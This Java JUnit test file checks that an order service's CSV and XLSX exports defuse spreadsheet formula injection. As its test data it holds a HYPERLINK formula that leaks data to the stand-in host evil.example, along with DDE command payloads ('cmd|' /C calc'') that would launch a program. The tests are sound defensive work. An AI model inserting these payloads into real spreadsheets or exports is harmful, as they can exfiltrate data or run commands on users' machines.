package ru.socorder.service.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Formula injection: what a spreadsheet reads back from the exported CSV and XLSX. */
class TableWriterTest {
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak\";\"Подробнее\")";
    private static final List<String> DANGEROUS = List.of(HYPERLINK, "+7 (81372) 2-22-22", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

    record Item(String name, BigDecimal amount) {
    }

    private static final List<TableWriter.Column<Item>> COLUMNS = List.of(
            new TableWriter.Column<>("Наименование", Item::name),
            new TableWriter.Column<>("Сумма", Item::amount));

    private static List<Item> items() {
        List<Item> items = new java.util.ArrayList<>();
        DANGEROUS.forEach(d -> items.add(new Item(d, new BigDecimal("-12.5"))));
        items.add(new Item("АНО «Обычная; с точкой с запятой» и \"кавычками\"", BigDecimal.TEN));
        items.add(new Item("Тест — 5", null));
        return items;
    }

    @Test
    void csvCellsThatLookLikeFormulasStartWithAnApostropheAndAreQuoted() throws IOException {
        String csv = new String(TableWriter.csv(COLUMNS, items()), StandardCharsets.UTF_8);
        assertTrue(csv.startsWith("\uFEFF"));
        assertTrue(csv.contains("\r\n\"'=HYPERLINK(\"\"http://evil.example/?leak\"\";\"\"Подробнее\"\")\";-12,5\r\n"), csv);
        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setDelimiter(';').get().parse(new StringReader(csv.substring(1))).getRecords();
        assertEquals(List.of("Наименование", "Сумма"), rows.get(0).toList());
        for (int i = 0; i < DANGEROUS.size(); i++) {
            assertEquals("'" + DANGEROUS.get(i), rows.get(i + 1).get(0), "row " + (i + 1));
            assertEquals("-12,5", rows.get(i + 1).get(1), "a negative number is a number, not text to neutralise");
        }
        assertEquals("АНО «Обычная; с точкой с запятой» и \"кавычками\"", rows.get(DANGEROUS.size() + 1).get(0), "ordinary text unchanged");
        assertEquals("Тест — 5", rows.get(DANGEROUS.size() + 2).get(0));
        for (CSVRecord r : rows) {
            assertFalse(FormulaGuard.dangerous(r.get(0)) && !r.get(1).startsWith("-"), "no cell opens as a formula: " + r);
        }
    }

    @Test
    void xlsxCellsThatLookLikeFormulasStayTextWithTheirVisibleTextUnchanged() throws IOException {
        byte[] xlsx = TableWriter.xlsx("executors", COLUMNS, items());
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            var sheet = wb.getSheetAt(0);
            assertFalse(sheet.getRow(0).getCell(0).getCellStyle().getQuotePrefixed());
            assertTrue(wb.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold(), "header style kept");
            for (int i = 0; i < DANGEROUS.size(); i++) {
                Cell name = sheet.getRow(i + 1).getCell(0);
                assertEquals(CellType.STRING, name.getCellType(), "never a formula cell");
                assertEquals(DANGEROUS.get(i), name.getStringCellValue(), "the text is what was stored");
                assertTrue(name.getCellStyle().getQuotePrefixed(), "Excel keeps it text after editing: row " + (i + 1));
                Cell amount = sheet.getRow(i + 1).getCell(1);
                assertEquals(CellType.NUMERIC, amount.getCellType());
                assertEquals(-12.5, amount.getNumericCellValue());
                assertFalse(amount.getCellStyle().getQuotePrefixed(), "numbers are left alone");
            }
            Row ordinary = sheet.getRow(DANGEROUS.size() + 1);
            assertFalse(ordinary.getCell(0).getCellStyle().getQuotePrefixed(), "ordinary text keeps the default style");
            for (Row r : sheet) {
                for (Cell c : r) {
                    assertFalse(c.getCellType() == CellType.FORMULA, "no formula cells at all");
                }
            }
        }
        TableReader.Table back = TableReader.read("executors.xlsx", xlsx);
        assertEquals(HYPERLINK, back.rows().get(0).get(0), "an import of the export reads the same text");
    }
}
